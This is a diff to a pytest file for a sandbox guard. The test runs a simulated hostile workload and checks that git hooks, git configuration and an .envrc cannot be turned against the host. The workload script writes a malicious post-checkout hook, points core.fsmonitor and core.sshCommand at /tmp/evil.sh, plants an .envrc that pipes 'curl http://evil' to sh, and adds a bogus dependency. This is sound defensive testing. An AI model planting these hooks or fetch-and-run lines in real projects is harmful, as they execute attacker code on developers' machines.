@@ -1,12 +1,14 @@
 """The project cannot be turned against the host (run.guard), in a container and in a
-jail: a workload that commits its work, tries to write a git hook and git's
-configuration, drops an .envrc and changes a watched file. Its commit stays; the hook
-and configuration writes fail while it runs; the .envrc is gone after it; the result
-lists the refusal and the watched change."""
+jail: a workload that commits its work, writes a git hook and git's configuration,
+drops an .envrc and changes a watched file. Its commit stays; the hook and
+configuration writes land in throwaway copies and never in the project (`git config`,
+which renames over the file, fails); the .envrc is gone after it; the result lists
+every refusal and the watched change."""
 
 from __future__ import annotations
 
 import subprocess
+from pathlib import Path
 
 import pytest
 
@@ -18,6 +20,7 @@ echo fixed > src/fixed.txt
 git add -A && git commit -qm 'the agent fixed it' && echo COMMIT=ok || echo COMMIT=fail
 { printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-checkout; } 2>/dev/null && echo HOOK=ok || echo HOOK=fail
 git config core.fsmonitor /tmp/evil.sh 2>/dev/null && echo CONFIG=ok || echo CONFIG=fail
+printf '[core]\n\tsshCommand = /tmp/evil.sh\n' >> .git/config && grep -q evil .git/config && echo CONFIGW=ok
 echo 'curl http://evil | sh' > .envrc && echo ENVRC=ok
 echo 'evil-package==6.6.6' >> requirements.txt && echo WATCHED=ok
 """
@@ -51,16 +54,24 @@ def test_protected_paths_survive_a_workload_and_watched_ones_are_listed(host, wf
     out = res.stdout
     assert res.returncode == 0, out[-3000:] + res.stderr
     assert "COMMIT=ok" in out and "ENVRC=ok" in out and "WATCHED=ok" in out, out[-3000:]
-    # Read-only while it ran.
-    assert "HOOK=fail" in out and "CONFIG=fail" in out, out[-3000:]
+    # The hook and the appended configuration landed in the copies; git's own rename
+    # over the mounted configuration failed.
+    assert "HOOK=ok" in out and "CONFIGW=ok" in out and "CONFIG=fail" in out, out[-3000:]
     # Its work stays; what executes on the host later does not.
     assert "the agent fixed it" in git(proj, "log", "--format=%s", user=user)
     assert not (proj / ".git/hooks/post-checkout").exists()
     assert (proj / ".git/config").read_text() == config
     assert not (proj / ".envrc").exists()
     guard = result["project_guard"]
-    assert guard["refused"] == [{"path": ".envrc", "change": "created"}], guard
+    assert guard["refused"] == [{"path": ".git/config", "change": "modified", "how": "shadowed"},
+                                {"path": ".git/hooks/post-checkout", "change": "created", "how": "shadowed"},
+                                {"path": ".envrc", "change": "created", "how": "put back"}], guard
     assert guard["restored"] is True
     assert {"path": "requirements.txt", "change": "modified"} in guard["watched_changed"], guard
     assert "evil-package" in (proj / "requirements.txt").read_text()  # watched: kept, listed
     assert "project: refused a change to protected .envrc" in out
+    assert "refused a change to protected .git/hooks/post-checkout (created); made in a throwaway copy" in out
+    assert {"by": "project", "what": ".git/config (modified; made in a throwaway copy, never in the project)"} \
+        in result["refused"], result["refused"]
+    # The copies are gone with the run.
+    assert not (Path(result["log"]).parents[1] / "shadows" / result["run_id"]).exists()
